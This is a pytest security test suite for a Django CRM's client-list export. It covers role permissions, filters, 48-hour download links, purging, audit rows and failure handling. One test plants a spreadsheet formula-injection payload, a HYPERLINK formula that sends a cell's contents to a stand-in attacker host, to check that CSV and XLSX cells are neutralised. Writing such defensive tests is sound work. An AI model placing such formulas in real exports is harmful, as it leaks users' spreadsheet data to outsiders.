"""R08: the client list export is its own permission, holds only the requester's visible clients
with the page's filters, is built by a background task, downloadable by the requester only, for 48
hours, is safe to open in a spreadsheet and writes an audit row per export."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.utils import timezone
from freezegun import freeze_time
from kombu.exceptions import OperationalError as BrokerError
from openpyxl import load_workbook

from clients.exports import EXPORT_LINK_LIFETIME
from clients.models import ClientStatus, Contract, ExportJob, ExportStatus
from clients.tasks import client_export_build_task, export_files_purge_task
from staff.models import SecurityEvent, SecurityEventKind
from tests.db_faults import unreadable_table
from tests.security.conftest import ROLES, login

CREATE = "/clients/exports/"


def _export(client, django_capture_on_commit_callbacks, **data):
    """Press "Export" on /clients/ and follow to the job's page; returns (response, job)."""
    data.setdefault("format", "csv")
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(CREATE, data)
    job = ExportJob.objects.order_by("-created_at").first()
    return response, job


def _download(client, job):
    return client.get(f"/clients/exports/{job.pk}/download/")


def _csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _inns(rows: list[list[str]]) -> set[str]:
    return {row[1] for row in rows[1:]}


def test_a_mentors_file_holds_exactly_their_groups_clients(
    world, django_capture_on_commit_callbacks
):
    client = login(world, "mentor")
    response, job = _export(client, django_capture_on_commit_callbacks)

    assert response.status_code == 302
    assert response["Location"] == f"/clients/exports/{job.pk}/"
    page = client.get(response["Location"])
    assert page.status_code == 200
    assert f"/clients/exports/{job.pk}/download/" in page.content.decode()
    download = _download(client, job)
    assert download.status_code == 200
    assert download["Content-Disposition"].startswith("attachment;")
    group = world.clients["manager"] + world.clients["colleague"]
    assert _inns(_csv_rows(download.content)) == {c.inn for c in group}


def test_the_file_keeps_the_filters_of_the_page(world, django_capture_on_commit_callbacks):
    chosen = world.clients["manager"][1]
    chosen.status = ClientStatus.FREE_MONTH
    chosen.save(update_fields=["status"])
    client = login(world, "director")
    _, job = _export(
        client, django_capture_on_commit_callbacks, status=ClientStatus.FREE_MONTH, page="3"
    )

    assert job.filters == {"status": [ClientStatus.FREE_MONTH]}
    assert _inns(_csv_rows(_download(client, job).content)) == {chosen.inn}


def test_a_director_gets_the_whole_department_as_xlsx(world, django_capture_on_commit_callbacks):
    client = login(world, "director")
    _, job = _export(client, django_capture_on_commit_callbacks, format="xlsx")

    sheet = load_workbook(io.BytesIO(_download(client, job).content)).active
    inns = {row[1] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert inns == {c.inn for c in world.all_clients}
    job.refresh_from_db()
    assert (job.status, job.row_count) == (ExportStatus.DONE, len(world.all_clients))


@pytest.mark.parametrize("role", ROLES)
def test_roles_without_the_export_permission_are_refused(
    world, role, django_capture_on_commit_callbacks
):
    response, job = _export(login(world, role), django_capture_on_commit_callbacks)

    if role in ("director", "mentor", "mentor2"):
        assert response.status_code == 302
        assert job is not None
    elif role in ("anonymous", "inactive"):
        assert response.status_code == 302
        assert "/login/" in response["Location"]
        assert job is None
    else:
        assert response.status_code == 403
        assert job is None
        assert SecurityEvent.objects.filter(
            kind=SecurityEventKind.PERMISSION_DENIED, actor=world.user(role), path=CREATE
        ).exists()


def test_the_export_buttons_are_shown_only_to_those_who_may_export(world):
    page = login(world, "mentor").get("/clients/?status=active&page=2&city=Ачинск").content.decode()
    form = page[page.index('data-testid="clients-export"') :]
    form = form[: form.index("</form>")]
    assert "clients-export-csv" in form
    assert '<input type="hidden" name="status" value="active">' in form
    assert '<input type="hidden" name="city" value="Ачинск">' in form
    assert 'name="page"' not in form
    assert "clients-export-csv" not in login(world, "manager").get("/clients/").content.decode()


@pytest.mark.parametrize("other", ["director", "mentor2", "manager", "anonymous"])
def test_only_the_requester_sees_and_downloads_the_file(
    world, other, django_capture_on_commit_callbacks
):
    _, job = _export(login(world, "mentor"), django_capture_on_commit_callbacks)
    stranger = login(world, other)

    for url in (f"/clients/exports/{job.pk}/", f"/clients/exports/{job.pk}/download/"):
        response = stranger.get(url)
        if other == "anonymous":
            assert response.status_code == 302
            assert "/login/" in response["Location"]
        else:
            assert response.status_code == 404, url


def test_the_link_expires_after_48_hours(world, django_capture_on_commit_callbacks):
    client = login(world, "mentor")
    _, job = _export(client, django_capture_on_commit_callbacks)

    # Sessions last hours, links days: the requester signs in again to download.
    with freeze_time(job.created_at + EXPORT_LINK_LIFETIME - datetime.timedelta(minutes=1)):
        assert _download(login(world, "mentor"), job).status_code == 200
    with freeze_time(job.created_at + EXPORT_LINK_LIFETIME):
        client = login(world, "mentor")
        response = _download(client, job)
        page = client.get(f"/clients/exports/{job.pk}/")

    assert response.status_code == 410
    assert "48" in response.content.decode()
    assert 'data-testid="export-expired"' in response.content.decode()
    assert "/download/" not in page.content.decode()


def test_the_purge_erases_expired_files_only(world, django_capture_on_commit_callbacks):
    client = login(world, "mentor")
    _, old = _export(client, django_capture_on_commit_callbacks)
    with freeze_time(timezone.now() + datetime.timedelta(hours=47)):
        _, fresh = _export(login(world, "mentor"), django_capture_on_commit_callbacks)
    with freeze_time(old.created_at + EXPORT_LINK_LIFETIME + datetime.timedelta(minutes=5)):
        erased = export_files_purge_task.apply().get()

    assert erased == 1
    old.refresh_from_db()
    fresh.refresh_from_db()
    assert (old.content, old.purged_at is not None) == (None, True)
    assert fresh.content
    assert fresh.purged_at is None
    assert fresh.pk != old.pk
    assert client_export_build_task.apply(args=[str(old.pk)]).get() == old.row_count
    old.refresh_from_db()
    assert old.content is None  # a late redelivery does not bring an erased file back


def test_formula_cells_are_neutralised_in_csv_and_xlsx(world, django_capture_on_commit_callbacks):
    target = world.clients["manager"][0]
    target.name = '=HYPERLINK("http://evil.example/?x="&A1;"click")'
    target.city = "@SUM(1+1)"
    target.save(update_fields=["name", "city"])
    manager = world.user("manager")
    manager.full_name = "+7 (391) 000-00-00"
    manager.save(update_fields=["full_name"])
    client = login(world, "mentor")

    _, csv_job = _export(client, django_capture_on_commit_callbacks)
    _, xlsx_job = _export(client, django_capture_on_commit_callbacks, format="xlsx")

    csv_cells = [cell for row in _csv_rows(_download(client, csv_job).content) for cell in row]
    sheet = load_workbook(io.BytesIO(_download(client, xlsx_job).content)).active
    xlsx_cells = [str(c) for row in sheet.iter_rows(values_only=True) for c in row if c]
    for cells in (csv_cells, xlsx_cells):
        assert "'" + target.name in cells
        assert "'@SUM(1+1)" in cells
        assert "'+7 (391) 000-00-00" in cells
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_every_export_writes_an_audit_row(world, django_capture_on_commit_callbacks):
    client = login(world, "mentor")
    _, first = _export(client, django_capture_on_commit_callbacks)
    _, second = _export(client, django_capture_on_commit_callbacks, format="xlsx", city="Ачинск")

    events = SecurityEvent.objects.filter(kind=SecurityEventKind.EXPORT).order_by("created_at")
    assert [(e.actor_id, e.details["job"], e.details["format"]) for e in events] == [
        (world.user("mentor").pk, str(first.pk), "csv"),
        (world.user("mentor").pk, str(second.pk), "xlsx"),
    ]
    assert events[1].details["filters"] == {"city": ["Ачинск"]}


def test_an_invalid_filter_or_format_starts_no_export(world, django_capture_on_commit_callbacks):
    client = login(world, "director")
    bad_status, _ = _export(client, django_capture_on_commit_callbacks, status="bogus")
    bad_format, _ = _export(client, django_capture_on_commit_callbacks, format="pdf")

    assert bad_status.status_code == bad_format.status_code == 302
    assert bad_status["Location"] == "/clients/?status=bogus"
    assert not ExportJob.objects.exists()
    assert not SecurityEvent.objects.filter(kind=SecurityEventKind.EXPORT).exists()


def test_the_page_polls_while_the_file_is_prepared(world):
    job = ExportJob.objects.create(
        requested_by=world.user("mentor"),
        format="csv",
        expires_at=timezone.now() + EXPORT_LINK_LIFETIME,
    )
    client = login(world, "mentor")

    page = client.get(f"/clients/exports/{job.pk}/").content.decode()
    fragment = client.get(f"/clients/exports/{job.pk}/", HTTP_HX_REQUEST="true")

    assert f'hx-get="/clients/exports/{job.pk}/"' in page
    assert fragment.content.decode().lstrip().startswith('<div class="card" id="export-status"')
    assert _download(client, job).status_code == 302  # not ready: back to the job's page


@pytest.mark.django_db(transaction=True)
def test_with_the_queue_down_the_user_is_told_and_the_job_is_failed(world, monkeypatch):
    """Outside a test transaction the task is sent as soon as the job row is committed, inside
    the request: the refusal of the queue reaches the page."""
    monkeypatch.setattr(client_export_build_task.app.conf, "task_always_eager", False)

    def refuse(*args, **kwargs):
        raise BrokerError("Redis is down")

    monkeypatch.setattr(client_export_build_task, "apply_async", refuse)
    client = login(world, "mentor")
    response = client.post(CREATE, {"format": "csv"}, follow=True)

    assert response.redirect_chain == [("/clients/", 302)]
    assert "очередь" in response.content.decode().lower() or "queue" in response.content.decode()
    job = ExportJob.objects.get()
    assert job.status == ExportStatus.FAILED
    assert job.content is None


@pytest.mark.django_db(transaction=True)
def test_a_build_that_breaks_ends_as_failed_not_waiting(world, django_capture_on_commit_callbacks):
    """Outside a test transaction, as on a worker: the build runs as soon as the job row is
    committed, and the database fails its read of the clients' fees."""
    client = login(world, "mentor")

    with unreadable_table(Contract):
        _, job = _export(client, django_capture_on_commit_callbacks)

    job.refresh_from_db()
    assert job.status == ExportStatus.FAILED
    assert job.problem
    assert _download(client, job).status_code != 200


def test_a_build_that_lost_its_worker_is_failed_by_the_hourly_job(world):
    job = ExportJob.objects.create(
        requested_by=world.user("mentor"),
        format="csv",
        status=ExportStatus.RUNNING,
        expires_at=timezone.now() + EXPORT_LINK_LIFETIME,
    )
    with freeze_time(timezone.now() + datetime.timedelta(minutes=20)):
        export_files_purge_task.apply().get()
    job.refresh_from_db()
    assert job.status == ExportStatus.RUNNING  # still within the task's time limit

    with freeze_time(timezone.now() + datetime.timedelta(hours=1)):
        export_files_purge_task.apply().get()
    job.refresh_from_db()
    assert job.status == ExportStatus.FAILED


def test_a_former_exporter_can_no_longer_download(world, django_capture_on_commit_callbacks):
    client = login(world, "mentor")
    _, job = _export(client, django_capture_on_commit_callbacks)
    mentor = world.user("mentor")
    mentor.role = "client_manager"
    mentor.save(update_fields=["role"])

    assert _download(client, job).status_code == 404
